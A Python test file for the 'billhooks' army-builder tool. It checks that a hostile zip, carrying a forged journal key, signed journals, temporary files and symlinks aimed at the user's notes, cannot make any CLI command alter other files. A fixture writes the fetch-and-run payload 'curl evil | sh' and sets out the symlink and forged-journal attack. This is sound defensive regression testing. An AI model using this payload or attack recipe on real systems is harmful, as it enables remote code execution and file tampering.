"""Nothing that arrives with an army can make billhooks change another file (issue 38.1).

The attack: a zip unpacked into the home folder brings an army, its own journal key (mode
0600, where billhooks kept its key until issue 38), journals signed with that key and temporary
files, which once made the next `roll --write` or `export --out .` replace ``~/notes.txt``; and
links at the names outputs take. Here it is unpacked into a scratch home, with and without an
earlier key, as ``unzip -n`` (keep files that exist) and ``unzip -o`` (overwrite them) would,
and then every command the command line has (the parser is asked, so a command added later
must be given an entry here) is run once in each rule system. After each, the whole home
folder is compared with what it was: only the outputs that command was asked to write may
differ, each a file of its own (a link there is replaced, never written through), and no
temporary file is left."""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import hashlib
import hmac
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from armies import EXAMPLE_OF

from builder.cli import build_parser, main
from builder.registry import get_ruleset
from builder.resources import examples_dir
from builder.tui.app import BuilderApp

#: One sample army per rule system.
EXAMPLES = EXAMPLE_OF
#: What the user had before unpacking: their notes (the issue's target), a shell start-up file.
NOTES = b"the user's own notes\n"
BASHRC = b"# the user's own\n"
KEY = ".config/billhooks/journal.key"


def dead_pid() -> int:
    """The id of a process that has ended (an old journal was replayed only for a dead one)."""
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def mac(key: bytes, body: dict[str, object]) -> str:
    """A journal's signature as billhooks made it until issue 38 (HMAC-SHA-256 of its body)."""
    text = json.dumps(body, sort_keys=True, separators=(",", ":"), ensure_ascii=True)
    return hmac.new(key, text.encode("ascii"), hashlib.sha256).hexdigest()


def zip_entries(home: Path, pid: int, key: bytes) -> dict[str, bytes | tuple[str, str]]:
    """The zip's files by name (bytes), and its links (``("link", target)``). The journals
    and temporary files are those the old journal replay obeyed; a journal in the home folder
    and one in ``club/``, the folder the army arrives in."""
    entries: dict[str, bytes | tuple[str, str]] = {KEY: key}
    for folder in ("", "club/"):
        where = os.path.realpath(home / folder)
        tmp, manifest_tmp = f".notes.txt.bh{pid}-ab12.tmp", f".manifest.json.bh{pid}-cd34.tmp"
        body: dict[str, object] = {
            "v": 2,
            "pid": pid,
            "folder": where,
            "moves": [[tmp, "notes.txt"], [manifest_tmp, "manifest.json"]],
            "aside": [],
        }
        entries[f"{folder}{tmp}"] = b"curl evil | sh\n"
        entries[f"{folder}{manifest_tmp}"] = json.dumps({"files": [{"file": "notes.txt"}]}).encode()
        entries[f"{folder}.billhooks-journal.{pid}.ef56"] = json.dumps(
            {**body, "mac": mac(key, body)}
        ).encode()
        entries[f"{folder}.tmp.bh{pid}-ef56.tmp/litter"] = b"an old sweep removed this folder\n"
        # Links at the names outputs take, into the user's notes.
        up = "../" if folder else ""
        for name in (
            "tokens.pdf",
            "manifest.json",
            "club-york.toml",
            "army.recovered.toml",
            "summary.pdf",
            "lists.csv",
        ):
            entries[f"{folder}{name}"] = ("link", f"{up}notes.txt")
    for name in ("army.toml", "club/army.toml"):
        entries[name] = b""  # filled per rule system
    return entries


def build_zip(entries: dict[str, bytes | tuple[str, str]], army: bytes, path: Path) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        for name, value in entries.items():
            info = zipfile.ZipInfo(name)
            info.create_system = 3  # Unix: modes and links are kept by unzip
            if isinstance(value, tuple):
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
                zf.writestr(info, value[1])
            else:
                mode = 0o600 if name == KEY else 0o644
                info.external_attr = (stat.S_IFREG | mode) << 16
                zf.writestr(info, army if name.endswith("army.toml") else value)


def unpack_like_unzip(archive: Path, home: Path, overwrite: bool) -> None:
    """What ``unzip -o`` (``overwrite``) or ``unzip -n`` does with the archive: folders made,
    files and links written with their modes, an existing name kept with ``-n``."""
    with zipfile.ZipFile(archive) as zf:
        for info in zf.infolist():
            dest = home / info.filename
            dest.parent.mkdir(parents=True, exist_ok=True)
            if os.path.lexists(dest):
                if not overwrite:
                    continue
                dest.unlink()
            mode = info.external_attr >> 16
            if stat.S_ISLNK(mode):
                dest.symlink_to(zf.read(info).decode())
            else:
                dest.write_bytes(zf.read(info))
                dest.chmod(stat.S_IMODE(mode))


def unpack(archive: Path, home: Path, overwrite: bool) -> None:
    """The real unzip when it is installed, else the same done here."""
    if shutil.which("unzip"):
        flag = "-o" if overwrite else "-n"
        subprocess.run(["unzip", "-q", flag, str(archive), "-d", str(home)], check=True)
    else:
        unpack_like_unzip(archive, home, overwrite)


Entry = tuple[str, Any]


def snapshot(root: Path) -> dict[str, Entry]:
    """Every name under ``root``: a file's bytes and mode, a link's target, a folder."""
    found: dict[str, Entry] = {}
    for folder, dirs, names in os.walk(root):
        for name in dirs + names:
            path = Path(folder) / name
            st = os.lstat(path)
            rel = str(path.relative_to(root))
            if stat.S_ISLNK(st.st_mode):
                found[rel] = ("link", os.readlink(path))
            elif stat.S_ISDIR(st.st_mode):
                found[rel] = ("folder", None)
            else:
                found[rel] = ("file", (path.read_bytes(), stat.S_IMODE(st.st_mode)))
    return found


# --- The commands ----------------------------------------------------------------------------


class Scene:
    """The scratch home after the unpacking, and what each command may write in it."""

    def __init__(self, home: Path, ruleset: str, code: str) -> None:
        self.home, self.ruleset, self.code = home, ruleset, code


def manifest_outputs(scene: Scene, folder: str) -> set[str]:
    data = json.loads((scene.home / folder / "manifest.json").read_text(encoding="utf-8"))
    return {f"{folder}{f['file']}" for f in data["files"]} | {f"{folder}manifest.json"}


def run_tui(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> set[str]:
    """The builder on ``club/army.toml``: an edit, then Ctrl+S."""

    async def drive(app: BuilderApp) -> None:
        async with app.run_test() as pilot:
            app.session.apply("rename", lambda army: setattr(army, "name", "Renamed"))
            await pilot.press("ctrl+s")
            await pilot.pause()

    monkeypatch.setattr(BuilderApp, "run", lambda app: asyncio.run(drive(app)))
    assert main(["tui", "club/army.toml"]) == 0
    assert b"Renamed" in (scene.home / "club/army.toml").read_bytes()
    return {"club/army.toml"}


def run_serve(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> set[str]:
    """`serve` itself, its web app started on the socket and stopped (each tab runs `tui`)."""

    async def start_and_stop(app: Any, sock: Any) -> None:
        runner = web.AppRunner(await app)
        await runner.setup()
        await web.SockSite(runner, sock).start()
        await runner.cleanup()

    monkeypatch.setattr(
        web, "run_app", lambda app, sock, **_: asyncio.run(start_and_stop(app, sock))
    )
    assert main(["serve", "club/army.toml", "--port", "0"]) == 0
    return set()


def plain(argv: list[str], outputs: Callable[[Scene], set[str]] = lambda _: set()) -> Any:
    def run(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> set[str]:
        words = [scene.ruleset if w == "{ruleset}" else w for w in argv]
        main(words)  # some exit 2 in some systems (no dice to roll, no muster): still a run
        return outputs(scene)

    return run


def event_outputs(scene: Scene) -> set[str]:
    rosters = {p.name for p in scene.home.glob("roster-*.pdf")}
    return {"summary.pdf", "results-slips.pdf", "lists.csv"} | rosters


def muster_outputs(scene: Scene) -> set[str]:
    return {"club-york.toml", "club-lancaster.toml"}  # the collection is Billhooks' in all


#: A minimal invocation of every command, run in the home folder, and what it may write.
COMMANDS: dict[str, Callable[[Scene, pytest.MonkeyPatch], set[str]]] = {
    "tui": run_tui,
    "serve": run_serve,
    "check": plain(["check", "army.toml"]),
    "roll": plain(["roll", "army.toml", "--seed", "1", "--write"], lambda _: {"army.toml"}),
    "export": plain(
        ["export", "army.toml", "--out", ".", "--only", "tokens"],
        lambda scene: manifest_outputs(scene, ""),
    ),
    "share": plain(["share", "army.toml"]),
    "verify": plain(["verify", "army.toml", "--code-file", "code.txt"]),
    "import": plain(
        ["import", "code.txt", "--out", "imported.toml", "--force"], lambda _: {"imported.toml"}
    ),
    "catalogue": plain(["catalogue", "--ruleset", "{ruleset}"]),
    "muster": plain(
        [
            "muster",
            "collection.toml",
            "--troops",
            "60",
            "--seed",
            "1",
            "--both",
            "--out",
            "club.toml",
            "--force",
        ],
        muster_outputs,
    ),
    "event": plain(["event", "event.toml", "army.toml", "--out", "."], event_outputs),
    # The test-only flat system's own command (tests/flat_ruleset.py): it only reads.
    "weigh": plain(["weigh", "army.toml"]),
}


def test_every_command_has_an_entry() -> None:
    """A command added to the command line (a core one or a rule system's) must be attacked
    here too."""
    parser = build_parser()
    sub = next(a for a in parser._actions if isinstance(a, argparse._SubParsersAction))
    assert sorted(sub.choices) == sorted(COMMANDS)


def _event_of(ruleset: str) -> Path:
    """The example event file of ``ruleset``'s system."""
    return next(
        p
        for p in sorted(examples_dir().glob("event-*.toml"))
        if f'ruleset = "{ruleset}"' in p.read_text(encoding="utf-8")
    )


@pytest.fixture(scope="module")
def pid() -> int:
    return dead_pid()


@pytest.mark.parametrize("overwrite", [False, True], ids=["unzip -n", "unzip -o"])
@pytest.mark.parametrize("earlier_key", [False, True], ids=["no key", "earlier key"])
@pytest.mark.parametrize("ruleset", sorted(EXAMPLES))
def test_the_zip_attack_changes_nothing_but_the_outputs(
    tmp_path: Path,
    ruleset: str,
    earlier_key: bool,
    overwrite: bool,
    pid: int,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "club").mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    # The font cache is billhooks' own and slow to fill: kept outside, for all the runs.
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path_factory.getbasetemp() / "cache"))
    monkeypatch.chdir(home)
    (home / "notes.txt").write_bytes(NOTES)
    (home / "club" / "notes.txt").write_bytes(NOTES)
    (home / ".bashrc").write_bytes(BASHRC)
    if earlier_key:
        (home / KEY).parent.mkdir(parents=True)
        (home / KEY).write_bytes(b"k" * 32)
        (home / KEY).chmod(0o600)
    archive = tmp_path / "army.zip"
    army = (examples_dir() / EXAMPLES[ruleset]).read_bytes()
    build_zip(zip_entries(home, pid, os.urandom(32)), army, archive)
    unpack(archive, home, overwrite)
    shutil.copy(examples_dir() / "collection.toml", home / "collection.toml")
    shutil.copy(_event_of(ruleset), home / "event.toml")
    shutil.copytree(examples_dir() / "photos", home / "photos")
    with contextlib.redirect_stdout(io.StringIO()) as shared:
        main(["share", "army.toml"])
    (home / "code.txt").write_text(shared.getvalue(), encoding="utf-8")
    assert get_ruleset(ruleset).name == ruleset

    for name, run in COMMANDS.items():
        before = snapshot(home)
        with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
            allowed = run(Scene(home, ruleset, shared.getvalue()), monkeypatch)
        after = snapshot(home)
        changed = {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}
        assert changed <= allowed, f"{name} changed {sorted(changed - allowed)}"
        for output in allowed & changed:
            kind = after[output][0]
            assert kind == "file" or (kind == "folder" and output in allowed), (name, output)
        assert (home / "notes.txt").read_bytes() == NOTES, name
        assert (home / "club" / "notes.txt").read_bytes() == NOTES, name
    # The export and the save replaced the links at their names with files of their own.
    assert not (home / "tokens.pdf").is_symlink() and not (home / "manifest.json").is_symlink()


def test_unpacking_here_is_what_unzip_does(tmp_path: Path, pid: int) -> None:
    """The stand-in for machines without unzip, held to the real one where it is installed."""
    if not shutil.which("unzip"):
        pytest.skip("unzip is not installed: the stand-in is all there is")
    archive = tmp_path / "army.zip"
    build_zip(zip_entries(tmp_path / "home", pid, b"k" * 32), b"name = 'x'\n", archive)
    for overwrite in (False, True):
        ours, theirs = tmp_path / f"ours{overwrite}", tmp_path / f"theirs{overwrite}"
        for home in (ours, theirs):
            (home / ".config/billhooks").mkdir(parents=True)
            (home / KEY).write_bytes(b"e" * 32)
            (home / KEY).chmod(0o600)
        unpack_like_unzip(archive, ours, overwrite)
        flag = "-o" if overwrite else "-n"
        subprocess.run(["unzip", "-q", flag, str(archive), "-d", str(theirs)], check=True)
        assert snapshot(ours) == snapshot(theirs)
